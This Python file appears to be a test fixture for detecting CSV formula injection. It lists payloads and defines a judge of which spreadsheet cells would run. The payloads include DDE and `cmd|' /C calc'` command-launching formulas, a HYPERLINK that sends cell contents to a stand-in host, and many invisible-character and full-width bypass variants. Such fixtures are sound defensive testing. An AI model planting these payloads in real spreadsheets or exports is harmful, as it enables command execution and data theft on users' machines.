"""Sixty texts that some program has run as a formula, and a judge who knows none of our code."""

import re
import unicodedata

_BEFORE = {
    "nothing": "",
    "blank": " ",
    "blanks": "   ",
    "nbsp": "\u00a0",
    "ideographic": "\u3000",
    "thin": "\u2009",
    "narrow nbsp": "\u202f",
    "zero width": "\u200b",
    "joiner": "\u200d",
    "word joiner": "\u2060",
    "soft hyphen": "\u00ad",
    "mark of order": "\ufeff",
    "right to left": "\u202e",
    "line separator": "\u2028",
    "next line": "\u0085",
    "filler": "\u3164",
    "mixed": " \u200b\u00a0\u3000",
    "tab": "\t",
    "return": "\r",
    "line": "\n",
    "both": "\r\n",
    "vertical": "\x0b",
}
PAYLOADS = [
    # What stands before the sign.
    *(f"{before}=1+1" for before in _BEFORE.values()),
    # The sign itself, in each of its forms.
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@小榄",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "\u00a0＝1+1",
    "\u3000＋SUM(1,1)",
    "\u200b－1+1",
    "\ufeff＠SUM(1,1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1,1)",
    "⁼1+1",
    "|cmd' /C calc'!A0",
    "%0A=1+1",
    # What they run.
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://example.org?"&A1,"点击")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")',
    "={1+1}",
    "==1+1",
    "=+1",
    "+86",
    "-",
    "-小榄",
    # Quotation marks, separators and lines within.
    '","=1+1,"',
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "甲\n=1+1",
    "甲\r\n=1+1",
    "甲\t=1+1",
    "甲,=1+1",
    "甲;=1+1",
]
assert len(PAYLOADS) >= 60
RARE = "䶮㛃𬭚𠮷"
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
# What shows nothing; programs skip it, or may one day.
_UNSEEN = {"Zs", "Zl", "Zp", "Cc", "Cf"}


def executable(cell: str) -> bool:
    """Whether the text of a CSV cell would be run by some program that opens it.

    By the simplest of rules: take away everything that shows nothing, make every sign its plain
    form, look at what stands first. A number is a number.
    """
    seen = "".join(c for c in cell if unicodedata.category(c) not in _UNSEEN and c != "\u3164")
    plain = unicodedata.normalize("NFKC", seen).strip()
    if _NUMBER.fullmatch(plain) and plain == cell:
        return False
    return plain[:1] in set("=+-@|%")
